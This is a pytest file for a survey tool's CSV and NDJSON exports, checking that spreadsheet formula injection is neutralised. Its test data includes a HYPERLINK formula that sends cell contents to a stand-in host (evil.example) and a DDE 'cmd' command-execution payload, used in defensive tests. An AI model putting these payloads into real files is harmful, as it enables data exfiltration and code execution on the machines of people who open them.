"""The CSV and NDJSON exports against golden files, on both databases: nested fields, arrays, unicode,
formula injection (at the start of a cell, and after a `;` `|` tab or line break where a spreadsheet may split
it), negative numbers, a form that changed between versions, Excel mode, raw mode, keyset batches, and the
`survey-bot export` command run as a subprocess.

Regenerate the golden files after an intended format change with `SURVEY_BOT_UPDATE_GOLDEN=1 pytest
tests/test_export.py`, then read the diff."""

from __future__ import annotations

import copy
import csv
import dataclasses
import io
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from spreadsheet_view import formula_cells
from sqlalchemy.ext.asyncio import AsyncEngine

from survey_bot.forms.load import parse_form
from survey_bot.reports.csv_safety import csv_record, neutralise
from survey_bot.reports.export import ResponseFilter, csv_chunks, ndjson_chunks, plan_export, response_batches
from survey_bot.storage.engine import make_engine, make_sessionmaker
from survey_bot.storage.models import FormVersion, Response

REPO = Path(__file__).resolve().parent.parent
GOLDEN = Path(__file__).resolve().parent / "golden"
SURVEY_BOT = Path(sys.executable).parent / "survey-bot"
T0 = datetime(2025, 5, 1, 8, 30, tzinfo=UTC)
SURVEY, INTAKE, LEDGER, NOTES, LABELS = "customer_satisfaction", "appointment_intake", "ledger", "notes", "labels"
SURVEY_DOCUMENT = json.loads((REPO / "forms" / f"{SURVEY}.json").read_text())
INTAKE_DOCUMENT = json.loads((REPO / "forms" / f"{INTAKE}.json").read_text())


def older_survey() -> dict[str, Any]:
    """The survey as it was: no `comment` yet, and a `heard_about` question dropped since."""
    document = copy.deepcopy(SURVEY_DOCUMENT)
    del document["properties"]["comment"]
    document["properties"]["heard_about"] = {"type": "string", "description": "Where they heard of us."}
    document["properties"]["satisfaction"]["x-labels"] = {"very_satisfied": "delighted"}  # --labels: per version
    return document


# A form the examples do not cover: signed and fractional numbers (checked like any form file).
LEDGER_DOCUMENT = parse_form({
    "title": "Ledger", "type": "object", "required": ["delta"],
    "properties": {"delta": {"type": "integer", "description": "Change in units, may be negative."},
                   "balance": {"type": "number", "description": "Balance after the change."},
                   "note": {"type": "string", "description": "Free text.", "x-dtmf": False}},
}, LEDGER).document
# Free text and arrays, where a `;` `|` tab or line break lets a spreadsheet split a cell (Excel with `;` as the
# list separator does): a formula after one must be neutralised as at the start of a cell.
NOTES_DOCUMENT = parse_form({
    "title": "Notes", "type": "object", "required": ["text"],
    "properties": {"text": {"type": "string", "description": "Free text.", "x-dtmf": False},
                   "numbers": {"type": "array", "items": {"type": "number"}, "description": "Some numbers."},
                   "phones": {"type": "array", "items": {"type": "string"}, "description": "Phone numbers."}},
}, NOTES).document
# Choices with labels (--labels): a oneOf's titles, an array of choices labelled on its items, a label a
# spreadsheet would take for a formula, and free text that merely looks like a value.
LABELS_DOCUMENT = parse_form({
    "title": "Labels", "type": "object",
    "properties": {"size": {"type": "string", "oneOf": [{"const": "s", "title": "small"},
                                                        {"const": "xl", "title": "extra large"}]},
                   "colors": {"type": "array", "items": {"type": "string", "enum": ["red", "dark_blue"],
                                                         "x-labels": {"red": "crimson"}}},
                   "level": {"type": "integer", "enum": [1, 2], "x-labels": {"2": "=two"}},
                   "note": {"type": "string", "x-dtmf": False}},
}, LABELS).document

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
CMD = "=cmd|' /C calc'!A0"
DETRACTORS_ONLY = ("improve_first", "topics")  # the survey asks these only when the score is 6 or less
NEW_SYMPTOMS_ONLY = ("symptoms",)


@dataclass(frozen=True)
class Row:
    """One stored response (flat answers and sources), `minutes` after T0."""

    key: int
    form_id: str
    version: str
    minutes: int
    status: str
    answers: dict[str, Any]
    sources: dict[str, str]
    from_number: str | None = "+15551230001"
    direction: str = "incoming"
    # the fields this response's answers make not applicable (the forms' skip logic, written out by hand)
    not_applicable: tuple[str, ...] = ()

    @property
    def id(self) -> str:
        return f"00000000-0000-4000-8000-{self.key:012d}"


VERSIONS = [  # (form_id, version, document, created minutes before T0)
    (SURVEY, "cs-v1", older_survey(), 600),
    (SURVEY, "cs-v2", SURVEY_DOCUMENT, 60),
    (INTAKE, "ai-v1", INTAKE_DOCUMENT, 600),
    (LEDGER, "ledger-v1", LEDGER_DOCUMENT, 600),
    (NOTES, "notes-v1", NOTES_DOCUMENT, 600),
    (LABELS, "labels-v1", LABELS_DOCUMENT, 600),
]
ROWS = [
    Row(1, SURVEY, "cs-v1", 0, "completed",
        {"nps": 9, "satisfaction": "very_satisfied", "would_recommend": True, "topics": ["price", "delivery"],
         "heard_about": "la radio — Radio Nacional"},  # topics was answered, then the score corrected to 9
        {"nps": "ai", "satisfaction": "ai", "would_recommend": "ai", "topics": "ai", "heard_about": "ai"},
        not_applicable=DETRACTORS_ONLY),
    Row(2, SURVEY, "cs-v2", 5, "completed",
        {"nps": 0, "satisfaction": "very_dissatisfied", "would_recommend": False, "topics": [],
         "comment": HYPERLINK},
        {"nps": "dtmf", "satisfaction": "ai", "would_recommend": "dtmf", "topics": "ai", "comment": "ai"}),
    Row(3, SURVEY, "cs-v2", 5, "partial", {"nps": 7, "comment": "+1+1", "topics": ["support"]},
        {"nps": "ai", "comment": "ai_partial", "topics": "ai"}, from_number="=cmd|' /C calc'!A0",
        not_applicable=DETRACTORS_ONLY),
    Row(4, SURVEY, "cs-v2", 9, "completed", {"nps": 10, "satisfaction": "satisfied", "comment": "@SUM(A1:A9)"},
        {"nps": "ai", "satisfaction": "ai", "comment": "ai"}, direction="outgoing", not_applicable=DETRACTORS_ONLY),
    Row(5, SURVEY, "cs-v2", 12, "completed",
        {"nps": 8, "satisfaction": "neutral", "comment": 'Très bien, "vraiment" — 很好 👍\nSecond line\r\n\tend'},
        {"nps": "ai", "satisfaction": "ai", "comment": "ai"}, from_number=None, not_applicable=DETRACTORS_ONLY),
    Row(6, SURVEY, "cs-v2", 15, "completed",
        {"nps": 5, "comment": "-5", "topics": ["quality", "website"]},
        {"nps": "dtmf", "comment": "ai", "topics": "ai", "would_recommend": "declined"}),
    Row(7, SURVEY, "cs-v2", 18, "abandoned", {"comment": "-1+2"}, {"comment": "ai_partial"},
        not_applicable=DETRACTORS_ONLY),  # no score yet: neither branch applies
    Row(8, SURVEY, "cs-v2", 21, "in_progress", {}, {}, not_applicable=DETRACTORS_ONLY),
    Row(11, INTAKE, "ai-v1", 0, "completed",
        {"full_name": "José Ñúñez", "date_of_birth": "1980-02-29", "visit_reason": "follow-up",
         "preferred_slot.date": "2025-05-20", "preferred_slot.period": "morning", "callback_number": "5551234567",
         "new_patient": False},
        {"full_name": "ai", "date_of_birth": "dtmf", "visit_reason": "ai", "preferred_slot.date": "ai",
         "preferred_slot.period": "ai", "callback_number": "dtmf", "new_patient": "ai"},
        not_applicable=NEW_SYMPTOMS_ONLY),
    Row(12, INTAKE, "ai-v1", 3, "partial",
        {"full_name": "山田 太郎", "visit_reason": "new-symptoms", "preferred_slot.period": "afternoon",
         "new_patient": True},
        {"full_name": "ai", "visit_reason": "ai", "preferred_slot.period": "dtmf", "new_patient": "ai"}),
    Row(13, INTAKE, "ai-v1", 6, "completed",
        {"full_name": "Zoë O'Brien 🙂", "date_of_birth": "2001-12-31", "visit_reason": "vaccination",
         "preferred_slot.date": "2025-06-02", "preferred_slot.period": "morning", "callback_number": "0123456789"},
        {"full_name": "ai", "date_of_birth": "ai", "visit_reason": "ai", "preferred_slot.date": "ai",
         "preferred_slot.period": "ai", "callback_number": "ai"}, not_applicable=NEW_SYMPTOMS_ONLY),
    Row(21, LEDGER, "ledger-v1", 0, "completed", {"delta": -5, "balance": 4.5, "note": "-"},
        {"delta": "ai", "balance": "ai", "note": "ai"}),
    Row(22, LEDGER, "ledger-v1", 1, "completed", {"delta": 36, "balance": -12.75, "note": "- refund"},
        {"delta": "dtmf", "balance": "ai", "note": "ai"}),
    Row(23, LEDGER, "ledger-v1", 2, "completed", {"delta": 0, "balance": 1e21, "note": "+44 20 7946 0958"},
        {"delta": "ai", "balance": "ai", "note": "ai"}),
    *(Row(30 + minute, NOTES, "notes-v1", minute, "completed", answers, dict.fromkeys(answers, "ai"),
          from_number=caller)
      for minute, (answers, caller) in enumerate([
          ({"text": "ok;" + CMD, "numbers": [-5, 3, 4.5], "phones": ["+15551230001", "+15551230002"]}, "+15551230001"),
          ({"text": "a|=1+1", "numbers": [-0.5, 1e21], "phones": ["+15551230001", "=1+1"]}, "+15551230001|=1+1"),
          ({"text": "x\t@SUM(A1)", "phones": ["call me", "+15551230002"]}, "+15551230001"),
          ({"text": "line\n=1+1"}, "+15551230001"),
          ({"text": "-5;+3;4.5"}, "+15551230001"),
          ({"text": "+15551230001;+15551230002"}, "+15551230001"),
          ({"text": "hello;world"}, "+15551230001"),
          ({"text": 'a;"' + CMD + ";b"}, "+15551230001"),
          ({"text": "first line\r\n\t-1+2"}, "+15551230001"),
      ])),
    Row(41, LABELS, "labels-v1", 0, "completed", {"size": "xl", "colors": ["red", "dark_blue"], "level": 2,
                                                  "note": "very_nice"},
        {"size": "dtmf", "colors": "ai", "level": "ai", "note": "ai"}),
    Row(42, LABELS, "labels-v1", 1, "partial", {"size": "s", "colors": []}, {"size": "ai", "colors": "ai",
                                                                                "level": "declined"}),
]


@pytest.fixture
async def engine(database_url: str) -> AsyncIterator[AsyncEngine]:
    engine = make_engine(database_url)
    ids: dict[str, int] = {}
    async with make_sessionmaker(engine)() as session, session.begin():
        for form_id, version, document, minutes in VERSIONS:
            row = FormVersion(form_id=form_id, version=version, document=document,
                              created_at=T0 - timedelta(minutes=minutes))
            session.add(row)
            await session.flush()
            ids[version] = row.id
        for r in ROWS:
            started = T0 + timedelta(minutes=r.minutes)
            done = r.status in ("completed", "partial")
            session.add(Response(
                id=r.id, form_id=r.form_id, form_version_id=ids[r.version], direction=r.direction,
                from_number=r.from_number, to_number="+15550100001", status=r.status, answers=r.answers,
                sources=r.sources, answer_times={}, message_history=[], keypad_attempts=[], keypad_queue=None,
                failures=[], started_at=started, completed_at=started + timedelta(seconds=95) if done else None,
                updated_at=started))
    yield engine
    await engine.dispose()


async def export(engine: AsyncEngine, form_id: str, kind: str = "csv", **options: Any) -> str:
    selection = ResponseFilter(form_id, tuple(options.pop("statuses", ())), options.pop("since", None),
                               options.pop("until", None))
    async with engine.connect() as connection:
        plan = await plan_export(connection, selection, lambda: None)
    plan = dataclasses.replace(plan, include_sensitive=options.pop("include_sensitive", False))
    chunks = (csv_chunks(engine, plan, selection, **options) if kind == "csv"
              else ndjson_chunks(engine, plan, selection, **options))
    return "".join([chunk async for chunk in chunks])


def golden(name: str, produced: str) -> str:
    """Compare `produced` with tests/golden/`name` byte for byte (or rewrite it when asked to)."""
    path = GOLDEN / name
    data = produced.encode("utf-8")
    if os.environ.get("SURVEY_BOT_UPDATE_GOLDEN"):
        path.write_bytes(data)
    assert data == path.read_bytes(), f"{name} differs from the golden file"
    return produced


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# ---- what each cell must read back as, written without the exporter's code ----------------------------


def expected_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return ";".join(expected_text(item) for item in value)
    if isinstance(value, int | float):
        return json.dumps(value)
    return str(value)


def defused(text: str) -> str:
    """OWASP: a leading ' on a cell a spreadsheet would evaluate, and a ' after each `;` `|` tab or line break
    followed (after any `"`) by a formula start, where a spreadsheet may split the cell; numbers and arrays of
    numbers stay as they are."""
    parts = re.split(r"(\r\n|[;|\t\r\n])", text)  # piece, separator, piece, ...
    if all(is_number(piece) for piece in parts[::2]):
        return text
    for i in range(2, len(parts), 2):
        if parts[i].lstrip('"')[:1] in ("=", "+", "-", "@", "\0"):
            parts[i] = "'" + parts[i]
    return ("'" if text[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\0") else "") + "".join(parts)


def is_number(text: str) -> bool:
    """A plain number (E.164 numbers are such numbers): only the characters of one, and float() reads it."""
    if not text or not set(text) <= set("0123456789+-.eE"):
        return False
    try:
        float(text)
    except ValueError:
        return False
    return True


def expected_rows(form_id: str, fields: list[str], *, sources: bool, raw: bool) -> list[dict[str, str]]:
    rows = []
    for r in sorted((r for r in ROWS if r.form_id == form_id), key=lambda r: (r.minutes, r.id)):
        started = T0 + timedelta(minutes=r.minutes)
        done = r.status in ("completed", "partial")
        row = {"response_id": r.id, "form_id": form_id, "form_version": r.version, "status": r.status,
               "direction": r.direction, "from": r.from_number or "", "to": "+15550100001", "locale": "en-US",
               "started_at": started.strftime("%Y-%m-%dT%H:%M:%SZ"),
               "completed_at": (started + timedelta(seconds=95)).strftime("%Y-%m-%dT%H:%M:%SZ") if done else ""}
        row |= {name: expected_text(r.answers.get(name)) for name in fields}
        if not raw:
            row |= {name: defused(row[name]) for name in ("from", *fields)}
        row |= {name: ".declined" for name in fields if r.sources.get(name) == "declined"}
        row |= dict.fromkeys(r.not_applicable, "")
        if sources:
            row |= {f"{name}.source": r.sources.get(name, "") for name in fields}
            row |= {f"{name}.source": "not_applicable" for name in r.not_applicable}
        rows.append(row)
    return rows


# properties in file order, the fields the `then` branch declares, then the field only the older version had
SURVEY_FIELDS = ["nps", "satisfaction", "would_recommend", "comment", "improve_first", "topics", "heard_about"]
INTAKE_FIELDS = ["full_name", "date_of_birth", "visit_reason", "preferred_slot.date", "preferred_slot.period",
                 "callback_number", "new_patient", "symptoms"]


# ---- CSV ------------------------------------------------------------------------------------------------


async def test_survey_csv_over_two_versions_with_sources(engine: AsyncEngine) -> None:
    text = golden("customer_satisfaction.csv", await export(engine, SURVEY, with_sources=True))
    header = text.split("\n", 1)[0].split(",")
    # newest version's order, then the field only the older version had
    assert header == ["response_id", "form_id", "form_version", "status", "direction", "from", "to", "locale",
                      "started_at", "completed_at", *SURVEY_FIELDS, *(f"{name}.source" for name in SURVEY_FIELDS)]
    rows = read_csv(text)
    assert rows == expected_rows(SURVEY, SURVEY_FIELDS, sources=True, raw=False)
    by_id = {row["response_id"][-1]: row for row in rows}
    assert by_id["1"]["comment"] == "" and by_id["1"]["heard_about"] == "la radio — Radio Nacional"
    assert by_id["2"]["comment"] == "'" + HYPERLINK and by_id["2"]["topics"] == ""
    assert by_id["3"]["comment"] == "'+1+1" and by_id["3"]["from"] == "'=cmd|' /C calc'!A0"
    assert by_id["4"]["comment"] == "'@SUM(A1:A9)"
    assert by_id["5"]["comment"] == "Très bien, \"vraiment\" — 很好 👍\nSecond line\r\n\tend"
    assert by_id["6"]["comment"] == "-5" and by_id["7"]["comment"] == "'-1+2"  # a number is not a formula
    assert by_id["6"]["topics"] == "quality;website" and by_id["1"]["would_recommend"] == "true"
    # a value kept for a question the score made not applicable is exported empty, its source says why
    assert by_id["1"]["topics"] == "" and by_id["1"]["topics.source"] == "not_applicable"
    assert by_id["6"]["would_recommend"] == ".declined" and by_id["6"]["would_recommend.source"] == "declined"
    assert by_id["2"]["improve_first"] == "" and by_id["2"]["improve_first.source"] == ""  # asked, not answered
    assert by_id["2"]["nps"] == "0" and by_id["2"]["would_recommend"] == "false"
    assert by_id["1"]["from"] == "+15551230001"  # E.164 stays as it is
    # a cell holding `;` or `|` is quoted, so a spreadsheet splitting on them keeps it whole where it can
    assert ',"\'=cmd|\' /C calc\'!A0",' in text and ',"quality;website",' in text
    assert formula_cells(text) == []


async def test_survey_csv_raw_keeps_formulas(engine: AsyncEngine) -> None:
    text = golden("customer_satisfaction.raw.csv", await export(engine, SURVEY, raw=True))
    rows = read_csv(text)
    assert rows == expected_rows(SURVEY, SURVEY_FIELDS, sources=False, raw=True)
    assert rows[1]["comment"] == HYPERLINK and rows[2]["from"] == "=cmd|' /C calc'!A0"


async def test_excel_mode_adds_a_bom_and_crlf(engine: AsyncEngine) -> None:
    text = golden("customer_satisfaction.excel.csv", await export(engine, SURVEY, excel=True))
    assert text.startswith("\ufeffresponse_id,")
    assert read_csv(text) == expected_rows(SURVEY, SURVEY_FIELDS, sources=False, raw=False)
    quoted = '"Très bien, ""vraiment"" — 很好 👍\nSecond line\r\n\tend"'  # line ends inside a cell stay
    outside = text.replace(quoted, "")
    assert outside != text and outside.endswith("\r\n")
    assert outside.count("\n") == outside.count("\r\n") == 1 + 8  # every record ends CRLF: header, 8 rows


async def test_intake_csv_flattens_nested_fields(engine: AsyncEngine) -> None:
    shared = read_csv(golden("appointment_intake.csv", await export(engine, INTAKE)))
    assert list(shared[0])[10:] == INTAKE_FIELDS
    # x-sensitive date_of_birth and callback_number: empty cells unless the export includes them
    assert {row["date_of_birth"] + row["callback_number"] for row in shared} == {""}
    rows = read_csv(await export(engine, INTAKE, include_sensitive=True))
    assert rows == expected_rows(INTAKE, INTAKE_FIELDS, sources=False, raw=False)
    assert [{k: v for k, v in row.items() if k not in ("date_of_birth", "callback_number")} for row in rows] == \
        [{k: v for k, v in row.items() if k not in ("date_of_birth", "callback_number")} for row in shared]
    assert rows[1]["full_name"] == "山田 太郎" and rows[1]["preferred_slot.date"] == ""
    assert rows[2]["full_name"] == "Zoë O'Brien 🙂" and rows[2]["callback_number"] == "0123456789"


NOTES_FIELDS = ["text", "numbers", "phones"]


async def test_a_formula_after_a_separator_is_neutralised(engine: AsyncEngine) -> None:
    text = await export(engine, NOTES, with_sources=True)
    rows = read_csv(text)
    assert rows == expected_rows(NOTES, NOTES_FIELDS, sources=True, raw=False)
    assert [row["text"] for row in rows] == [
        "ok;'" + CMD, "a|'=1+1", "x\t'@SUM(A1)", "line\n'=1+1",
        "-5;+3;4.5", "+15551230001;+15551230002", "hello;world",  # arrays of numbers, and text: as they were
        "a;'\"=cmd|' /C calc'!A0;b", "first line\r\n\t'-1+2"]
    assert (rows[0]["numbers"], rows[0]["phones"]) == ("-5;3;4.5", "+15551230001;+15551230002")
    assert (rows[1]["numbers"], rows[1]["phones"]) == ("-0.5;1e+21", "'+15551230001;'=1+1")
    assert rows[1]["from"] == "'+15551230001|'=1+1"  # not only numbers: both ends
    assert rows[2]["phones"] == "call me;'+15551230002"  # a number stays only in an array of numbers
    assert ',"ok;\'=cmd|\' /C calc\'!A0",' in text and ',"hello;world",' in text and ',"x\t\'@SUM(A1)",' in text
    assert formula_cells(text) == []  # read with `,` `;` `|` or tab as the separator
    golden("notes.csv", text)


async def test_raw_quotes_separators_and_keeps_formulas(engine: AsyncEngine) -> None:
    text = await export(engine, NOTES, raw=True)
    rows = read_csv(text)
    assert rows == expected_rows(NOTES, NOTES_FIELDS, sources=False, raw=True)
    assert rows[0]["text"] == "ok;" + CMD and rows[1]["from"] == "+15551230001|=1+1"
    assert ',"ok;=cmd|\' /C calc\'!A0",' in text and ',"x\t@SUM(A1)",' in text  # quoted all the same
    assert any(cell.startswith(CMD) for _, cell in formula_cells(text))  # unsafe, as --raw says
    golden("notes.raw.csv", text)


@pytest.mark.parametrize("form_id", [SURVEY, INTAKE, LEDGER, NOTES])
async def test_no_spreadsheet_finds_a_formula_in_any_export(engine: AsyncEngine, form_id: str) -> None:
    for excel in (False, True):
        assert formula_cells(await export(engine, form_id, with_sources=True, excel=excel)) == []


async def test_negative_and_fractional_numbers_stay_numbers(engine: AsyncEngine) -> None:
    text = golden("ledger.csv", await export(engine, LEDGER))
    rows = read_csv(text)
    assert [(row["delta"], row["balance"], row["note"]) for row in rows] == [
        ("-5", "4.5", "'-"), ("36", "-12.75", "'- refund"), ("0", "1e+21", "'+44 20 7946 0958")]


async def test_filters_select_by_status_and_time(engine: AsyncEngine) -> None:
    text = await export(engine, SURVEY, statuses=("partial", "abandoned"))
    assert [row["response_id"][-1] for row in read_csv(text)] == ["3", "7"]
    text = await export(engine, SURVEY, since=T0 + timedelta(minutes=5), until=T0 + timedelta(minutes=12))
    assert [row["response_id"][-1] for row in read_csv(text)] == ["2", "3", "4"]


async def test_no_matching_rows_still_gives_the_header(engine: AsyncEngine) -> None:
    text = await export(engine, SURVEY, statuses=("failed",))
    assert text == csv_record([neutralise(n) for n in expected_header(SURVEY_FIELDS[:6])], "\n")


def expected_header(fields: list[str]) -> list[str]:
    return ["response_id", "form_id", "form_version", "status", "direction", "from", "to", "locale", "started_at",
            "completed_at", *fields]


# ---- NDJSON -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form_id", [SURVEY, INTAKE, LEDGER])
async def test_ndjson_is_typed_and_nested(engine: AsyncEngine, form_id: str) -> None:
    shared = golden(f"{form_id}.ndjson", await export(engine, form_id, "ndjson"))
    if form_id == INTAKE:  # x-sensitive answers: no key unless the export includes them
        assert not any({"date_of_birth", "callback_number"} & set(json.loads(line)["answers"])
                       for line in shared.splitlines())
    text = await export(engine, form_id, "ndjson", include_sensitive=True)
    records = [json.loads(line) for line in text.splitlines()]
    rows = sorted((r for r in ROWS if r.form_id == form_id), key=lambda r: (r.minutes, r.id))
    assert [record["response_id"] for record in records] == [r.id for r in rows]
    for record, r in zip(records, rows, strict=True):
        assert record["form_version"] == r.version and record["status"] == r.status
        declined = sorted(name for name, source in r.sources.items() if source == "declined")
        # same values, same JSON types; null for a declined question and for a value made not applicable
        assert flatten(record["answers"]) == {
            **{k: v for k, v in r.answers.items() if k not in r.not_applicable},
            **dict.fromkeys(declined), **dict.fromkeys(k for k in r.answers if k in r.not_applicable)}
        assert flatten(record["sources"]) == r.sources
        assert record["declined"] == declined and record["not_applicable"] == list(r.not_applicable)
        assert record["from"] == r.from_number and record["started_at"].endswith("Z")
    if form_id == INTAKE:
        assert records[0]["answers"]["preferred_slot"] == {"date": "2025-05-20", "period": "morning"}
    if form_id == SURVEY:
        assert records[1]["answers"]["comment"] == HYPERLINK  # JSON cannot carry a formula: no prefix


# ---- labels instead of values ------------------------------------------------------------------------------


async def test_labels_replace_choice_values_in_csv(engine: AsyncEngine) -> None:
    plain = {row["response_id"][-1]: row for row in read_csv(await export(engine, SURVEY))}
    rows = {row["response_id"][-1]: row for row in read_csv(await export(engine, SURVEY, labels=True))}
    assert plain["1"]["satisfaction"] == "very_satisfied"  # values by default
    assert rows["1"]["satisfaction"] == "delighted"  # the label of the version the response used (cs-v1)
    assert rows["2"]["satisfaction"] == "very dissatisfied" and rows["5"]["satisfaction"] == "neutral"
    assert rows["6"]["topics"] == "quality;website" and rows["6"]["would_recommend"] == ".declined"
    assert rows["1"]["topics"] == ""  # not applicable stays empty
    assert (rows["2"]["nps"], rows["2"]["would_recommend"], rows["2"]["comment"]) == ("0", "false", "'" + HYPERLINK)
    labelled = read_csv(await export(engine, LABELS, labels=True, with_sources=True))
    assert [(r["size"], r["colors"], r["level"], r["note"]) for r in labelled] == [
        ("extra large", "crimson;dark blue", "'=two", "very_nice"), ("small", "", ".declined", "")]
    assert labelled[1]["level.source"] == "declined"
    assert formula_cells(await export(engine, LABELS, labels=True)) == []


async def test_labels_replace_choice_values_in_ndjson(engine: AsyncEngine) -> None:
    records = [json.loads(line) for line in (await export(engine, LABELS, "ndjson", labels=True)).splitlines()]
    assert records[0]["answers"] == {"size": "extra large", "colors": ["crimson", "dark blue"], "level": "=two",
                                     "note": "very_nice"}
    assert records[1]["answers"] == {"size": "small", "colors": [], "level": None}
    intake = [json.loads(line) for line in (await export(engine, INTAKE, "ndjson", labels=True)).splitlines()]
    assert intake[1]["answers"]["visit_reason"] == "new symptoms"
    assert intake[0]["answers"]["preferred_slot"] == {"date": "2025-05-20", "period": "morning"}


def flatten(nested: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    flat: dict[str, Any] = {}
    for key, value in nested.items():
        if isinstance(value, dict):
            flat |= flatten(value, f"{prefix}{key}.")
        else:
            flat[f"{prefix}{key}"] = value
    return flat


# ---- streaming ---------------------------------------------------------------------------------------------


async def test_batches_follow_the_keyset_without_gaps_or_repeats(engine: AsyncEngine) -> None:
    selection = ResponseFilter(SURVEY)
    batches = [[row[0] for row in batch] async for batch in response_batches(engine, selection, batch_size=2)]
    assert [len(batch) for batch in batches] == [2, 2, 2, 2]
    ids = [rid for batch in batches for rid in batch]
    assert ids == [r.id for r in sorted((r for r in ROWS if r.form_id == SURVEY), key=lambda r: (r.minutes, r.id))]


# ---- the command --------------------------------------------------------------------------------------------


def cli(database_url: str, *args: str, stderr: int | None = None) -> subprocess.CompletedProcess[bytes]:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("SURVEY_BOT_", "TELNYX_")) or k == "SURVEY_BOT_DATA_KEY"}  # (the tests' key)
    env |= {"SURVEY_BOT_DATABASE_URL": database_url, "SURVEY_BOT_FORMS_DIR": str(REPO / "forms")}
    return subprocess.run([str(SURVEY_BOT), "export", *args], env=env, timeout=120, check=False,
                          stdout=subprocess.PIPE, stderr=stderr if stderr is not None else subprocess.PIPE)


async def test_cli_writes_the_golden_csv_to_stdout(engine: AsyncEngine, database_url: str) -> None:
    result = cli(database_url, SURVEY, "--with-sources")
    assert result.returncode == 0, result.stderr
    assert result.stdout == (GOLDEN / "customer_satisfaction.csv").read_bytes()
    assert result.stderr == b""


async def test_cli_writes_files_silently_off_a_terminal(engine: AsyncEngine, database_url: str,
                                                        tmp_path: Path) -> None:
    out = tmp_path / "intake.ndjson"
    result = cli(database_url, INTAKE, "--format", "ndjson", "--out", str(out))
    assert result.returncode == 0 and result.stdout == b"" and result.stderr == b""
    assert out.read_bytes() == (GOLDEN / f"{INTAKE}.ndjson").read_bytes()
    excel = tmp_path / "survey.csv"
    result = cli(database_url, SURVEY, "--excel", "--out", str(excel))
    assert result.returncode == 0 and excel.read_bytes() == (GOLDEN / "customer_satisfaction.excel.csv").read_bytes()


async def test_cli_raw_says_so_on_stderr(engine: AsyncEngine, database_url: str) -> None:
    result = cli(database_url, SURVEY, "--raw")
    assert result.returncode == 0
    assert result.stdout == (GOLDEN / "customer_satisfaction.raw.csv").read_bytes()
    assert b"--raw" in result.stderr and b"NOT neutralised" in result.stderr


async def test_cli_filters(engine: AsyncEngine, database_url: str) -> None:
    result = cli(database_url, SURVEY, "--status", "partial", "abandoned", "--since", "2025-05-01T08:30:00Z",
                 "--until", "2025-05-01T09:00:00+00:00")
    assert result.returncode == 0, result.stderr
    assert [row["response_id"][-1] for row in read_csv(result.stdout.decode())] == ["3", "7"]


async def test_cli_refuses_a_time_past_the_calendars_ends_naming_the_option(engine: AsyncEngine,
                                                                            database_url: str) -> None:
    result = cli(database_url, SURVEY, "--since", "9999-12-31T23:59:59-01:00")  # year 10000 in UTC
    assert result.returncode == 2 and result.stdout == b""
    assert b"argument --since: 9999-12-31T23:59:59-01:00 is outside the years 1 to 9999 in UTC" in result.stderr
    assert b"Traceback" not in result.stderr


async def test_cli_shows_progress_on_a_terminal(engine: AsyncEngine, database_url: str, tmp_path: Path) -> None:
    controller, terminal = pty.openpty()
    try:
        result = cli(database_url, SURVEY, "--out", str(tmp_path / "x.csv"), stderr=terminal)
        os.close(terminal)
        terminal = -1
        shown = b""
        while chunk := _read(controller):
            shown += chunk
    finally:
        if terminal != -1:
            os.close(terminal)
        os.close(controller)
    assert result.returncode == 0
    assert b"8 / 8 rows" in shown and b"[##############################]" in shown


def _read(fd: int) -> bytes:
    try:
        return os.read(fd, 4096)
    except OSError:  # EIO once the other end is closed and drained
        return b""


async def test_cli_unknown_form_exits_2_naming_the_known_ones(engine: AsyncEngine, database_url: str,
                                                              tmp_path: Path) -> None:
    out = tmp_path / "never.csv"
    result = cli(database_url, "nope", "--out", str(out))
    assert result.returncode == 2
    message = result.stderr.decode()
    assert "unknown form 'nope'" in message and "ledger" in message and "customer_satisfaction" in message
    assert not out.exists()


async def test_cli_labels(engine: AsyncEngine, database_url: str) -> None:
    result = cli(database_url, SURVEY, "--labels")
    assert result.returncode == 0, result.stderr
    assert [row["satisfaction"] for row in read_csv(result.stdout.decode())][:2] == ["delighted", "very dissatisfied"]
    result = cli(database_url, LABELS, "--labels", "--format", "ndjson")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout.splitlines()[0])["answers"]["size"] == "extra large"


def test_cli_refuses_a_database_not_at_head(tmp_path: Path) -> None:
    result = cli(f"sqlite+aiosqlite:///{tmp_path / 'empty.db'}", SURVEY)
    assert result.returncode == 2
    assert b"survey-bot db upgrade" in result.stderr


def test_cli_rejects_csv_options_for_ndjson(tmp_path: Path) -> None:
    result = cli(f"sqlite+aiosqlite:///{tmp_path / 'unused.db'}", SURVEY, "--format", "ndjson", "--excel")
    assert result.returncode == 2 and b"csv only" in result.stderr
